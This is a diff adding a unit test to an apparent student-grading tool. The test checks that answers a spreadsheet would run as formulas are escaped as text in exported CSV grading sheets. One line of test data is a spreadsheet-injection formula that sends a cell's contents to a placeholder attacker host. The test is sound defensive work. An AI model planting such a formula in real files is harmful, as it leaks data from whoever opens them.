@@ -352,6 +352,22 @@ def test_a_bad_sheet_is_refused_and_nothing_is_stored(term, capsys):
     assert not (out / "manual.json").exists()
 
 
+def test_an_answer_a_spreadsheet_would_run_as_a_formula_is_written_as_text(term):
+    """A student controls the answer cell: ``=HYPERLINK("http://…"&B3, …)`` would send the sheet's
+    cells to a web address when the grader opens the CSV in Excel or LibreOffice."""
+    out = _copy(term, "formula")
+    state = results.load_state(out)
+    formula = '=HYPERLINK("http://evil.example/?"&B3,"see")'
+    s1 = next(r for r in state["records"] if r["student"] == "s1" and r["status"] == "graded")
+    next(q for q in s1["questions"] if q["qid"] == WRITTEN[0].qid)["answer"] = formula
+    results.save_state(out, state)
+    handgrade.write_sheets(out)
+    rows = _rows(out / "handgrading" / f"{TOPIC}.{WRITTEN[0].qid}.csv")
+    assert next(r for r in rows if r["student"] == "s1")["answer"] == "'" + formula
+    assert [handgrade.spreadsheet_text(t) for t in ("- a bullet", "+1", "@x", "plain")] == [
+        "'- a bullet", "'+1", "'@x", "plain"]
+
+
 # --- regrade, shards and merge -------------------------------------------------------------
 
 
